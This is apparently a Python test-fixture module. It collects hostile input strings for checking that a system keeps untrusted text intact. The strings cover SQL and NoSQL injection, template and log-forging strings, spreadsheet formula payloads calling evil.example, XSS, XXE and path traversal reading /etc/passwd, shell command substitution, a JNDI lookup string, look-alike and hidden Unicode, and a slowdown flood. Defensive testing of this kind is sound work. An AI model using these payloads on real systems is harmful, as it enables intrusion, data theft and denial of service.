"""Texts that some layer of some system has obeyed, and bodies that some parser has choked on."""

FORGED = "FORGED-LINE"
"""Stands in no log unless a line of it was made by a caller."""

INJECTIONS = (
    "'; DROP TABLE service_order; --",
    "' OR '1'='1' /*",
    '"; SELECT pg_sleep(9); --',
    "1; ATTACH DATABASE '/tmp/x' AS y",
    '{"$gt": ""}',
    '{"$where": "sleep(9000)"}',
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "{title.__class__.__mro__}{reason!r}{0}{}",
    "%s%n%x%(levelname)s",
    f"text\r\nX-Injected: 1\r\n\r\n{FORGED}",
    f"text\n2026-11-23 09:00:00 ERROR {FORGED}",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "-2+3+cmd|x",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)//",
    "<!ENTITY x SYSTEM '/etc/passwd'>&x;",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd%00.jpg",
    "*)(uid=*))(|(uid=*",
    "$(id)`id`;id|id&&id",
    "${jndi:ldap://evil.example/a}",
    "\\u0000\\x00\\0",
    'O\'Brien & Söhne <b>"Quoted"</b> \\',
)
"""Plain text, all of them: kept as they are, and given back byte for byte."""

REFUSED = ("null\x00byte", "bell\x07", "escape\x1b[2J", "\x7f", "c1\x85next line")
"""No screen shows these and no database keeps them."""

STRANGE = (
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ue000 private",
    "Αdmin аdmin",  # Greek and Cyrillic letters that look like Latin ones
    "ﷺ﷽",
    "\ufffd\ufffe",
    "e\u0301" * 5,
    "İıſKÅ",
    "𝕬𝖉𝖒𝖎𝖓",
    "ก็็็",
)

HIDING = (
    "张\u202e三",
    "\u2066张三\u2069",
    "张\u200b三",
    "张\u200c三",
    "张\u200d三",
    "张\ufeff三",
    "张\u00ad三",
    "张\u061c三",
    "张\u2028三",
    "张\n三",
    "张\t三",
    "z" + "\u0334\u0335\u0336\u0337\u0338",
    "\U000e0041\U000e0042张",
)
"""Names that look like another, or like nothing."""

FLOOD = "a" + "\u0300\u0316" * 60_000
"""To put these marks into their order takes a time that grows with the square of their number."""
